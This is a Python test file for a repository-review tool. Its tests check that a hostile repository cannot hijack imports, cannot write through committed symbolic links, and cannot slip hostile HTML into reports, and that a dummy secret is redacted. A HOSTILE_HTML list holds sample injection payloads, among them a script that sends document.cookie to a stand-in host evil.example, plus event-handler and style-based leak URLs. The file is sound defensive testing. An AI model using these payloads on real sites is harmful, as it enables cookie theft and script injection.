"""Issue 15: a hostile repository must not run code, redirect writes or leak secrets.

Each test builds the hostile shape the adversarial run used, in a git
repository made here, and runs the real command on it.
"""

from __future__ import annotations

import json
import os
import re
import subprocess
import sys
import time
import urllib.request
from pathlib import Path

import pytest

from archreview import cli
from browser import _end, _isolated_env, descendants, free_port
from repos import Symlink

# Modules the server, the kernel launcher and the kernel import by name: a committed file of the
# same name on sys.path would run. Each writes a marker if it is ever imported.
HIJACKED = ("IPython", "ipykernel_launcher", "jupyterlab", "jupyter_server", "traitlets", "ipykernel", "tornado",
            "sitecustomize", "usercustomize", "zmq", "nbformat")


def _hostile_files(marker: Path) -> dict[str, str]:
    payload = f"open({str(marker)!r}, 'a').write(__name__ + ' imported from ' + __file__ + '\\n')\n"
    files = {"app/__init__.py": "", "app/core.py": "def run():\n    return 1\n"}
    for name in HIJACKED:
        files[f"{name}.py"] = payload
        files[f"reviews/{name}.py"] = payload
    return files


def test_lab_prepares_the_workbook_outside_the_repository(git_repo, tmp_path, monkeypatch):
    from archreview.lab import prepare
    from archreview.workbook.params import Parameters

    monkeypatch.setenv("XDG_STATE_HOME", str(tmp_path / "state"))
    repo = git_repo([_hostile_files(tmp_path / "marker")])
    notebook = prepare(Parameters(str(repo.path), live=True))
    assert notebook.is_relative_to(tmp_path / "state" / "archreview") and notebook.exists()
    assert not notebook.is_relative_to(repo.path)
    assert repo.git("status", "--porcelain", "--ignored") == ""  # nothing written in the analysed tree
    assert not (tmp_path / "marker").exists()


@pytest.mark.slow
def test_lab_run_inside_a_hostile_repository_imports_nothing_from_it(git_repo, tmp_path):
    """Case 1: the installed `archreview lab .` run from inside the repo, workbook in the repo's own reviews/ folder (the
    worst case: the kernel's working folder is the repository's), a kernel started through the server."""
    marker = tmp_path / "marker"
    repo = git_repo([_hostile_files(marker)])
    home = tmp_path / "home"
    env = {**_isolated_env(home), "XDG_STATE_HOME": str(tmp_path / "state"), "PYTHONPATH": os.environ.get("PYTHONPATH", "")}
    port = free_port()
    log = tmp_path / "lab.log"
    with open(log, "wb") as out:
        lab = subprocess.Popen([str(Path(sys.executable).with_name("archreview")), "lab", ".", "--no-browser", "--port", str(port),
                                "--workdir", "reviews"], cwd=repo.path, env=env, stdout=out, stderr=subprocess.STDOUT,
                               start_new_session=True)
    started: list[tuple[int, int]] = []
    try:
        token = _wait_for_token(lab, log)
        api = _client(port, token)
        notebook = next(p.name for p in (repo.path / "reviews").glob("review-*.ipynb"))
        session = api("/api/sessions", {"path": notebook, "type": "notebook", "kernel": {"name": "python3"}})
        assert session["kernel"]["id"]
        deadline = time.monotonic() + 120
        while "IPKernelApp" not in log.read_text(errors="replace"):  # the real ipykernel is up and talking
            assert time.monotonic() < deadline, log.read_text(errors="replace")
            started += [d for d in descendants(lab.pid) if d not in started]
            time.sleep(0.5)
        started += [d for d in descendants(lab.pid) if d not in started]
        assert len(started) >= 2  # the server and its kernel did run
        api("/api/shutdown", {})
        lab.wait(timeout=30)
    finally:
        for pid, start in [*started[::-1], *descendants(lab.pid)]:
            _end(pid, start)
        if lab.poll() is None:
            lab.terminate()
            lab.wait(timeout=10)
    assert not marker.exists(), marker.read_text()


def _wait_for_token(lab: subprocess.Popen, log: Path, timeout: float = 120) -> str:
    """The server's token, from the "open: URL?token=..." line archreview prints once the server is up."""
    deadline = time.monotonic() + timeout
    while time.monotonic() < deadline:
        found = re.search(r"^open: \S*[?&]token=([A-Za-z0-9_-]+)", log.read_text(errors="replace"), re.M)
        if found:
            return found.group(1)
        assert lab.poll() is None, log.read_text(errors="replace")
        time.sleep(0.25)
    raise AssertionError(f"JupyterLab did not start in {timeout}s:\n{log.read_text(errors='replace')}")


def _client(port: int, token: str):
    def call(path: str, body: object = None) -> dict:
        data = None if body is None else json.dumps(body).encode()
        request = urllib.request.Request(f"http://127.0.0.1:{port}{path}", data=data,
                                         method="GET" if body is None else "POST",
                                         headers={"Authorization": f"token {token}", "Content-Type": "application/json"})
        for _ in range(40):
            try:
                with urllib.request.urlopen(request, timeout=10) as response:
                    raw = response.read()
                return json.loads(raw) if raw else {}
            except ConnectionError:
                time.sleep(0.25)
        raise AssertionError("the server did not answer")
    return call


def test_papermill_kernels_never_start_inside_the_analysed_repository(git_repo, tmp_path, monkeypatch):
    """Case 1, batch side: the review's kernel runs from the package's folder, not the repository's."""
    from archreview.report import notebook as nb

    seen = {}
    monkeypatch.setattr(nb, "run_notebook", lambda source, out, params, *, cwd, **_: seen.setdefault("cwd", cwd))
    repo = git_repo([_hostile_files(tmp_path / "marker")])
    from archreview.workbook.params import Parameters
    nb.execute(Parameters(str(repo.path)), tmp_path / "out.ipynb")
    assert not Path(seen["cwd"]).resolve().is_relative_to(repo.path.resolve())


def test_init_does_not_write_through_a_committed_link(git_repo, tmp_path, capsys):
    """Case 3: a committed archreview.toml -> ../outside/x.toml is never written, even with --force."""
    outside = tmp_path / "outside" / "x.toml"
    outside.parent.mkdir()
    outside.write_text("# the user's own file\n")
    repo = git_repo([{"app/__init__.py": "", "app/core.py": "x = 1\n", "archreview.toml": Symlink("../outside/x.toml")}])
    assert cli.main(["init", str(repo.path)]) == 2
    assert cli.main(["init", str(repo.path), "--force"]) == 2
    err = capsys.readouterr().err.strip().splitlines()
    assert len(err) == 2 and "symbolic link" in err[1] and "Traceback" not in err[1]
    assert outside.read_text() == "# the user's own file\n" and (repo.path / "archreview.toml").is_symlink()


def test_lab_does_not_write_through_a_committed_workbook_link(git_repo, tmp_path, monkeypatch, capsys):
    """Case 3: a committed reviews/review-repo.ipynb -> a file elsewhere is never written through: lab takes
    the next free name; a committed folder link on the way is refused; so is a decisions file that is a link."""
    from archreview.lab import prepare
    from archreview.workbook.params import Parameters

    victim = tmp_path / "victim.txt"
    victim.write_text("precious\n")
    outside = tmp_path / "outside"
    outside.mkdir()
    monkeypatch.setenv("XDG_STATE_HOME", str(tmp_path / "state"))
    repo = git_repo([{"app/__init__.py": "", "reviews/review-repo.ipynb": Symlink(str(victim)),
                      "reviews/review-repo-2.ipynb": Symlink(str(tmp_path / "dangling")),
                      "linked": Symlink(str(outside))}])
    monkeypatch.chdir(repo.path)
    notebook = prepare(Parameters(".", live=True), "reviews")
    assert notebook.name == "review-repo-3.ipynb" and not notebook.is_symlink()
    assert victim.read_text() == "precious\n" and not (tmp_path / "dangling").exists()
    assert cli.main(["lab", ".", "--workdir", "linked/sub", "--no-browser"]) == 2
    assert cli.main(["lab", ".", "--workdir", str(tmp_path / "w"), "--decisions", "reviews/review-repo.ipynb",
                     "--no-browser"]) == 2  # a decisions file that is a link: refused too
    err = capsys.readouterr().err.strip().splitlines()
    assert len(err) == 2 and all("symbolic link" in line for line in err), err
    assert list(outside.iterdir()) == [] and victim.read_text() == "precious\n"
    notebook = prepare(Parameters(".", live=True))  # the default place is the user's, and is written
    assert notebook.exists() and notebook.is_relative_to(tmp_path / "state")


HOSTILE_HTML = [
    "<script>fetch('https://evil.example/?c='+document.cookie)</script>",
    '<img src="x" onerror="alert(1)"><img src="https://evil.example/pixel.png">',
    '<a href="javascript:alert(2)">click</a><a href="https://evil.example/">away</a>',
    '<iframe src="https://evil.example/"></iframe><object data="https://evil.example/x.swf"></object>',
    '<embed src="x.swf"><form action="https://evil.example/"><input name="q"></form>',
    '<td style="background-image: url(https://evil.example/leak)">cell</td>',
    '<div style="background: url(https://evil.example/x)">styled</div><svg onload="alert(3)"></svg>',
    '<link rel="stylesheet" href="https://evil.example/x.css"><style>body{background:url(//evil.example)}</style>',
    '<meta http-equiv="refresh" content="0;url=https://evil.example/"><base href="https://evil.example/">',
]


def test_raw_outputs_are_sanitised_on_the_way_to_the_report(tmp_path):
    """Case 4: HTML and Markdown outputs carrying scripts, handlers, frames, objects and style-based requests reach
    the report stripped, while what the workbook's own fragments use (sections, ids, classes, data-item, tables,
    inline images) stays."""
    from bs4 import BeautifulSoup

    from archreview.report.notebook import export

    pixel = "data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mP8/5+hHgAHggJ/PchI7wAAAABJRU5ErkJggg=="
    own = (f'<section id="checklist" class="ar-section"><h2>Checklist</h2><div class="ar-item" data-item="14">'
           f'<table class="ar-table"><tr><th scope="col">a</th><td style="background-color: #fde0dd">1</td></tr>'
           f'</table><a href="#item-14">item 14</a><a href="ai/report.html">report</a><figure><img alt="chart" src="{pixel}"></figure></div></section>')
    node = nbformat_notebook([{"text/html": own}] + [{"text/html": h} for h in HOSTILE_HTML]
                             + [{"text/markdown": "**bold** " + h} for h in HOSTILE_HTML])
    source = tmp_path / "executed.ipynb"
    import nbformat

    nbformat.write(node, source)
    html = export(source, tmp_path / "report.html").read_text()
    soup = BeautifulSoup(html, "html.parser")
    body = soup.find("main")
    assert body.find_all(["script", "iframe", "object", "embed", "form", "input", "svg", "link", "meta", "base"]) == []
    assert body.find_all("style") == []
    for tag in body.find_all(True):
        for name, value in tag.attrs.items():
            assert not name.startswith("on"), tag
            text = " ".join(value) if isinstance(value, list) else value
            assert "evil.example" not in text and "javascript:" not in text and "url(" not in text, tag
    assert "evil.example" not in str(body)
    section = body.find("section", id="checklist")
    assert section is not None and "ar-section" in section["class"]
    assert body.find(attrs={"data-item": "14"}) is not None and body.find("th", scope="col") is not None
    assert body.find("td", style="background-color:#fde0dd") is not None  # the heatmap colours stay
    assert body.find("img", alt="chart")["src"] == pixel and body.find("a", string="item 14")["href"] == "#item-14"
    assert body.find("a", string="report")["href"] == "ai/report.html"  # the portfolio links to reports beside it
    assert body.find("strong", string="bold") is not None  # Markdown still rendered


def test_the_report_of_a_notebook_run_here_is_redacted_once(tmp_path, monkeypatch):
    """The review's report is made from the notebook papermill just ran, whose outputs ``_redact_file``
    redacted on the way to disk (``Executed``): those outputs are not redacted a second time (the charts'
    base64 made that pass cost ~1 s), while HTML the report renders from Markdown still is. A notebook
    read from a file (the live export, any other caller) is redacted in full."""
    import nbformat

    from archreview.report import notebook as nb

    secret = 'password = "hunter2hunter2"'
    path = tmp_path / "run.ipynb"
    nbformat.write(nbformat_notebook([{"text/html": f"<div>{secret}</div>"}, {"text/markdown": f"*{secret}*"}]), path)
    before = path.read_text()
    text = nb._redact_file(path)
    assert text == path.read_text() and "hunter2" not in text
    seen: list[str] = []
    real = nb.redact
    monkeypatch.setattr(nb, "redact", lambda t: seen.append(t) or real(t))
    html = nb.export(nb.Executed(path, text), tmp_path / "once.html").read_text()
    assert "hunter2" not in html and "password" in html
    assert not any("<div>" in t for t in seen)  # the HTML output: redacted once, by _redact_file
    assert any("<em>" in t for t in seen)  # the HTML rendered from Markdown: redacted here
    path.write_text(before)  # the same notebook, unredacted, given as a file
    seen.clear()
    html = nb.export(path, tmp_path / "file.html").read_text()
    assert "hunter2" not in html and any("<div>" in t for t in seen)


def nbformat_notebook(outputs: list[dict[str, str]]):
    import nbformat

    node = nbformat.v4.new_notebook()
    for data in outputs:
        cell = nbformat.v4.new_code_cell("display(...)")
        cell.outputs = [nbformat.v4.new_output("display_data", data=data)]
        node.cells.append(cell)
    return node


def test_review_does_not_write_through_a_committed_link_in_the_tree(git_repo, tmp_path, capsys):
    """Case 3, review: a report written inside the analysed tree where the repository put a link."""
    victim = tmp_path / "victim.txt"
    victim.write_text("precious\n")
    repo = git_repo([{"app/__init__.py": "", "out/report.ipynb": Symlink(str(victim)), "docs": Symlink(str(tmp_path))}])
    assert cli.main(["review", str(repo.path), "--output", str(repo.path / "out" / "report.html")]) == 2
    assert cli.main(["review", str(repo.path), "--output", str(repo.path / "docs" / "report.html")]) == 2
    err = capsys.readouterr().err.strip().splitlines()
    assert len(err) == 2 and all("symbolic link" in line for line in err)
    assert victim.read_text() == "precious\n" and not (tmp_path / "report.html").exists()
